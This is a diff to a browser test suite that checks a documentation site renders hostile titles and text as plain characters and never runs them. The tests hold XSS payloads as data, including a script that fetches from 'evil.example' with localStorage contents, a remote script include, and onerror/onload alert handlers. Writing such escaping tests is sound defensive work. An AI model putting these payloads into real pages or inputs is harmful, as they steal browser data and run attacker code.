@@ -1,5 +1,10 @@
 """Pages built from hostile text run no injected code: no dialog, no script error, no foreign request,
-and the payloads are on the page as plain characters."""
+and the payloads are on the page as plain characters.
+
+The titles of ``tests/cases/invalid/markup-in-titles`` are refused by ``check`` (the title-text
+check); this site is built with that check switched off, to prove that each sink a title reaches
+(``<title>``, navigation, headings, search, structured data) is safe on its own.
+"""
 
 from __future__ import annotations
 
@@ -11,8 +16,22 @@ from conftest import REPO, make_project
 
 from browser.conftest import served_build
 
-HOSTILE = [REPO / "tests/cases/valid/hostile-text-is-data/content", REPO / "tests/cases/valid/hostile-markup-everywhere/content"]
-PAGES = ["", "faq/", "playbooks/account-takeover/", "checklists/basics/", "checklists/prevention-pack/", "sources/"]
+HOSTILE = [
+    REPO / "tests/cases/valid/hostile-text-is-data/content",
+    REPO / "tests/cases/valid/hostile-markup-everywhere/content",
+    REPO / "tests/cases/invalid/markup-in-titles/content",  # last: its titles win
+]
+PAGES = ["", "faq/", "playbooks/", "playbooks/account-takeover/", "playbooks/withdrawal-locked/", "checklists/basics/",
+         "checklists/prevention-pack/", "guides/verify/", "platforms/demo/", "sources/", "myths/"]  # fmt: skip
+TITLES = {
+    "playbooks/withdrawal-locked/": "Paused</title><script>fetch('https://evil.example/'+localStorage.x)</script>",
+    "checklists/basics/": "Basics <img src=x onerror=alert(document.domain)>",
+    "guides/verify/": "Verify </title ><svg/onload=alert(document.domain)>",
+    "platforms/demo/": "Demo</title><script src=//evil.example/x.js></script>: official resources",
+}
+"""Pages whose own title is hostile, and that title as the reader must see it."""
+INJECTED = """() => [...document.querySelectorAll('script, svg[onload], img[onerror], iframe')]
+    .filter(element => !(element.type || '').includes('json') && /evil|alert|onerror|onload/.test(element.outerHTML)).length"""
 
 
 @pytest.fixture(scope="module")
@@ -20,7 +39,7 @@ def hostile_site(tmp_path_factory: pytest.TempPathFactory):
     project = make_project(tmp_path_factory.mktemp("hostile") / "project")
     for overlay in HOSTILE:
         shutil.copytree(overlay, project / "content", dirs_exist_ok=True)
-    with served_build(project, project / "site") as address:
+    with served_build(project, project / "site", without_checks=("title-text", "unsourced-figures")) as address:
         yield address
 
 
@@ -38,19 +57,36 @@ def test_hostile_text_runs_no_code(browser, hostile_site: str, path: str) -> Non
     for checkbox in page.locator(".mfp-checklist input[type=checkbox]").all():
         checkbox.check()
     page.mouse.move(10, 10)
+    injected = page.evaluate(INJECTED)
+    title = page.title()
     context.close()
     assert dialogs == [] and errors == []
     assert {urlsplit(url).hostname for url in requests if url.startswith("http")} == {"127.0.0.1"}
+    assert injected == 0, "a hostile title or text became an element"
+    if path in TITLES:
+        assert title == f"{TITLES[path]} - Missing Funds Playbook", "the <title> must show the title's characters, not run them"
+
+
+def test_search_shows_hostile_titles_as_text(browser, hostile_site: str) -> None:
+    page = browser.new_page()
+    dialogs: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    page.goto(hostile_site, wait_until="networkidle")
+    page.keyboard.press("/")
+    page.keyboard.type("Paused")
+    page.locator(".md-search-result__item").first.wait_for()
+    assert page.evaluate(INJECTED) == 0 and dialogs == []
+    page.close()
 
 
 def test_the_payloads_are_shown_as_text(browser, hostile_site: str) -> None:
     page = browser.new_page()
     page.goto(hostile_site + "playbooks/account-takeover/")
     text = page.locator("article").inner_text()
-    assert "Someone <svg onload=alert(document.domain)> is in my account" in text
     assert "<details open ontoggle=alert(document.domain)>" in text
     assert page.locator("article svg[onload], article iframe, article details, article style, article [onclick]").count() == 0
+    page.goto(hostile_site + "playbooks/withdrawal-locked/")
+    assert TITLES["playbooks/withdrawal-locked/"] in page.locator("h1").inner_text()
     page.goto(hostile_site + "checklists/basics/")
     assert page.locator("article script, article form, article img[onerror]").count() == 0
-    assert 'Account basics "><script>alert(document.domain)</script>' in page.locator("h1").inner_text()
     page.close()
